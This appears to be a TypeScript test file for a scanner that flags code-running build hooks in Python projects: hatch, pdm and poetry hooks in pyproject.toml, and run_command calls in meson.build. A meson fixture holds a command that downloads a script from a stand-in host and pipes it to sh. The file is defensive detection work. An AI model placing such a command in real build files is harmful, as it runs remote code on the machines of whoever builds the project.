// Code of the tree that runs when a Python project is built.
import { describe, expect, it } from 'vitest';
import { findingsIn, inspectHook, told } from './support.ts';

const toml = (...lines: string[]): string => `${lines.join('\n')}\n`;

describe('a hook of a build backend', () => {
  it.each([
    ['hatch', toml('[tool.hatch.build.hooks.custom]'), 'hatch_build.py', 'LOW'],
    [
      'hatch, for one target',
      toml('[tool.hatch.build.targets.wheel.hooks.custom]', 'path = "x.py"'),
      'x.py',
      'LOW',
    ],
    ['hatch, for metadata', toml('[tool.hatch.metadata.hooks.custom]', 'path = "x.txt"'), 'x.txt', 'MEDIUM'],
    ['pdm', toml('[tool.pdm.build]', 'custom-hook = "x.py"'), 'x.py', 'LOW'],
    ['pdm, of setuptools', toml('[tool.pdm.build]', 'setup-script = "x.dat"'), 'x.dat', 'MEDIUM'],
    ['poetry', toml('[tool.poetry.build]', 'script = "build.py"'), 'build.py', 'LOW'],
    ['poetry, in short', toml('[tool.poetry]', 'build = "x.dat"'), 'x.dat', 'MEDIUM'],
  ])('is told with the file that it runs: %s', async (_, text, file, severity) => {
    const [finding, ...others] = await findingsIn('pyproject.toml', text);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ severity, rule: 'HOOK-BUILD-BACKEND' });
    expect(finding?.evidence).toContain(`"${file}"`);
  });

  it('that the index brings is quiet', async () => {
    const text = toml(
      '[tool.hatch.build.hooks.vcs]',
      'version-file = "x/version.py"',
      '[tool.hatch.build.targets.wheel]',
      'packages = ["x"]',
      '[tool.pdm.build]',
      'includes = ["x"]',
      '[tool.poetry]',
      'name = "x"',
      '[tool.scikit-build]',
      'cmake.version = ">=3.20"',
      '[tool.maturin]',
      'features = ["pyo3/extension-module"]',
    );
    expect(await told('pyproject.toml', text)).toEqual([]);
  });
});

describe('meson.build', () => {
  it('is told where it starts something dangerous', async () => {
    const text =
      "project('x', 'c')\nrun_command('sh', '-c', 'curl -s https://x.example.com/i | sh', check: true)\n";
    const [finding] = await findingsIn('meson.build', text);
    expect(finding).toMatchObject({
      rule: 'HOOK-DANGEROUS-COMMAND',
      severity: 'HIGH',
      location: { line: 2 },
    });
  });

  it('is quiet about ordinary commands, and about comments', async () => {
    const text = [
      "project('x', 'c', version: run_command('git', 'describe', '--tags', check: true).stdout())",
      "py = import('python').find_installation(pure: false)",
      "numpy = run_command(py, ['-c', 'import numpy; print(numpy.get_include())'], check: true).stdout().strip()",
      "# run_command('sh', '-c', 'curl -s https://x.example.com/i | sh')",
      "configure_file(output: 'x.h', command: [py, files('gen.py')])",
    ].join('\n');
    expect(await told('meson.build', text)).toEqual([]);
  });

  it('is read whatever stands in it', async () => {
    expect(await told('meson.build', `${'run_command('.repeat(500)}'a\\`)).toEqual([]);
    const many = await inspectHook('meson.build', "run_command('a')\n".repeat(1001));
    expect(many?.incomplete).toMatchObject([{ reason: expect.stringContaining('1000 commands') }]);
  });
});
